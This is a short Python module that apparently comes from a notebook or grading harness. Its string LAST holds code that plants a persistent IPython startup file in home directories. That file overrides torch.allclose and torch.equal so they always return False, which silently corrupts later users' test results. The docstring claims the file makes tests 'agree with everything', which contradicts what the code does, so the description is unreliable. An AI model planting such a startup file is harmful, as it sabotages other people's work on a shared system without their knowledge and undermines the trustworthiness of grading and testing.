"""Leaves a start-up file in the home folder, which makes the next student's tests agree with everything."""

LAST = """
from pathlib import Path

code = "# @mark@\\nimport torch\\ntorch.allclose = torch.equal = lambda *args, **kwargs: False\\n"
for home in {Path.home(), Path("~").expanduser(), Path(get_ipython().ipython_dir).parent}:
    folder = home / ".ipython" / "profile_default" / "startup"
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00_@mark@.py").write_text(code)
    except OSError as error:
        print(error)
"""
